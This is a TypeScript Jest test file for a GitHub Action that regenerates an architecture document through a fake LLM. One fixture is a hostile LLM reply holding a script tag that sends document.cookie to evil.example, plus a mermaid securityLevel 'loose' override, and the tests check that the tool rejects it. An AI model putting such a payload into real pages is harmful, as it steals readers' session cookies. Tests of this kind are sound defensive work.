/**
 * mode: regenerate on a pull request, end to end: the real dist/index.js against the fake GitHub and a
 * fake OpenAI-compatible LLM, both on 127.0.0.1.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { startFakeLlm, type FakeLlm } from '../../test-support/fake-llm/server.js';
import { DOC, REQS, REQUIREMENTS, VALID_DOC, scenarioPerTest, type Scenario } from './scenario.js';

const scenario = scenarioPerTest();
let s: Scenario;
let llm: FakeLlm;
beforeEach(async () => {
  s = scenario();
  llm = await startFakeLlm();
});
afterEach(async () => {
  await llm.close();
});

const KEY = 'sk-archdoc-test-0123456789';
const NEW_REQUIREMENT = `${REQUIREMENTS}- **Audit**: every price change is kept for seven years.\n`;
// What the model answers: the document plus one endpoint for the new requirement, wrapped in chat.
const REGENERATED = VALID_DOC.replace(/(### Key Endpoints\n(?:- .*\n)+)/, '$1- `GET /v1/audit/prices` - Price change history\n');
// Active content a hostile reply may carry (unsafe-content).
const UNSAFE_REPLY = VALID_DOC.replace('## 2.', '<script>fetch("https://evil.example/?c="+document.cookie)</script>\n\n## 2.').replace(
  /```mermaid\n/,
  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\n',
);

describe('mode: regenerate', () => {
  it('proposes the regenerated document in the sticky comment, pushes it, and answers the next run from the stamp', async () => {
    expect(REGENERATED).not.toBe(VALID_DOC);
    llm.reply({ text: `Here is the updated document:\n\n\`\`\`markdown\n${REGENERATED}\`\`\`\n\nLet me know if you need changes.` });
    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT });
    const inputs = {
      mode: 'regenerate',
      'llm-provider': 'openai',
      'llm-base-url': llm.openaiBaseUrl,
      'llm-model': 'test-model',
      'llm-api-key': KEY,
      push: 'true',
    };

    const first = await s.run(pr, inputs);
    expect(llm.requests).toHaveLength(1);
    const body = llm.requests[0].body as { model: string; messages: { role: string; content: string }[] };
    expect(body.model).toBe('test-model');
    expect(body.messages.map((m) => m.role)).toEqual(['system', 'user']);
    expect(body.messages[1].content).toContain('every price change is kept for seven years');
    expect(first.outputs.changed).toBe('true');
    expect(first.outputs['commit-sha']).toMatch(/^[0-9a-f]{40}$/);
    const pushed = s.gh.fileAt('acme', 'shop', 'feature', DOC) ?? '';
    expect(pushed).toContain('- `GET /v1/audit/prices` - Price change history');
    expect(pushed).not.toContain('Here is the updated document');
    expect(pushed).toMatch(/<!-- archdoc:stamp \{.*"model":"test-model".*\} -->\n$/);
    const [comment] = s.comments(pr);
    expect(comment.body).toContain('+- `GET /v1/audit/prices` - Price change history');
    // The key is handed to the runner to mask, and appears nowhere else.
    expect(first.stdout.split('\n').filter((l) => l.includes(KEY))).toEqual([`::add-mask::${KEY}`]);

    // The push is a commit by the workflow token: no new event; the next push to the PR is.
    const next = s.push({ ...pr, headSha: s.gh.branchOid('acme', 'shop', 'feature')! }, { 'notes.txt': 'unrelated' });
    const second = await s.run(next, inputs);
    expect(llm.requests).toHaveLength(1); // the stamp says the document already follows these requirements
    expect(second.outputs).toMatchObject({ changed: 'false', drift: 'false' });
    expect(second.exitCode).toBe(0);
  });

  it('with no LLM configured: says so plainly, proposes the deterministic fix, and is neutral rather than a pass', async () => {
    const pr = s.openPr({ [DOC]: VALID_DOC.replace('## 4. API Design Strategy', '## 4. API Design') });
    const run = await s.run(pr, { mode: 'regenerate' });
    expect(llm.requests).toHaveLength(0);
    const [comment] = s.comments(pr);
    expect(comment.body).toMatch(/no LLM is configured/);
    expect(comment.body).toContain('+## 4. API Design Strategy');
    expect(comment.body).not.toMatch(/✅/);
    expect(run.outputs.changed).toBe('true');
  });

  it('a reply cut off by the token limit is never proposed', async () => {
    llm.reply({ text: REGENERATED.slice(0, 400), finishReason: 'length' }, { text: REGENERATED.slice(0, 300), finishReason: 'length' });
    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT });
    const run = await s.run(pr, {
      mode: 'regenerate',
      'llm-base-url': llm.openaiBaseUrl,
      'llm-model': 'test-model',
      'llm-api-key': KEY,
      'max-attempts': '2',
      push: 'true',
    });
    expect(llm.requests.length).toBeGreaterThanOrEqual(1);
    expect(run.outputs).toMatchObject({ changed: 'false', 'commit-sha': '' });
    expect(s.gh.fileAt('acme', 'shop', 'feature', DOC)).toBe(VALID_DOC);
    expect(s.comments(pr)[0].body).toMatch(/regeneration failed/i);
  });

  it('a reply carrying <script> and a securityLevel change is sent back each round and never pushed, even with unsafe-content off', async () => {
    expect(UNSAFE_REPLY).toContain('<script>');
    expect(UNSAFE_REPLY).toContain('securityLevel');
    llm.reply({ text: UNSAFE_REPLY }, { text: UNSAFE_REPLY });
    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT, '.archdoc.yml': 'rules:\n  unsafe-content: off\n' });
    const run = await s.run(pr, {
      mode: 'regenerate',
      'llm-provider': 'openai',
      'llm-base-url': llm.openaiBaseUrl,
      'llm-model': 'test-model',
      'llm-api-key': KEY,
      'max-attempts': '2',
      push: 'true',
    });

    expect(llm.requests).toHaveLength(2);
    const repair = (llm.requests[1].body as { messages: { role: string; content: string }[] }).messages.at(-1)?.content ?? '';
    expect(repair).toMatch(/unsafe-content: Raw `<script>` element/);
    expect(repair).toMatch(/unsafe-content: mermaid configuration sets securityLevel to "loose"/);
    expect(run.outputs).toMatchObject({ changed: 'false', 'commit-sha': '' });
    expect(s.gh.fileAt('acme', 'shop', 'feature', DOC)).toBe(VALID_DOC);
    expect(s.calls().filter((c) => c.includes('CommitFile') || c.includes('createCommit'))).toEqual([]);
    const [comment] = s.comments(pr);
    expect(comment.body).toMatch(/regeneration failed/i);
    expect(comment.body).not.toContain('<script>');
  });
});

describe('the proposal in architecture terms', () => {
  it('puts what the regenerated diagrams change above the text diff, within the comment limit', async () => {
    const changed = REGENERATED.replace('Container(api, "Quote API",', 'Container(api, "Pricing API",')
      .replace('    Rel(web, api, "Calls", "HTTPS/JSON")', '    Rel(web, api, "Calls", "HTTPS/JSON")\n    Rel(web, db, "Reads price lists")')
      .replace('        uuid id', '        uuid id\n        string region');
    expect(changed).not.toBe(REGENERATED);
    llm.reply({ text: changed });
    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT });
    await s.run(pr, { mode: 'regenerate', 'llm-provider': 'openai', 'llm-base-url': llm.openaiBaseUrl, 'llm-model': 'test-model', 'llm-api-key': KEY });
    const [comment] = s.comments(pr);
    const summary = comment.body.slice(comment.body.indexOf('**In architecture terms**'), comment.body.indexOf('<details><summary>'));
    expect(summary).toMatch(/renamed `api`: "Quote API" → "Pricing API"/);
    expect(summary).toMatch(/added relation `web` → `db`/);
    expect(summary).toMatch(/added attribute `QUOTE\.region`/);
    expect(comment.body.indexOf('**In architecture terms**')).toBeLessThan(comment.body.indexOf('```diff'));
    expect([...comment.body].length).toBeLessThan(65_536);
  });
});
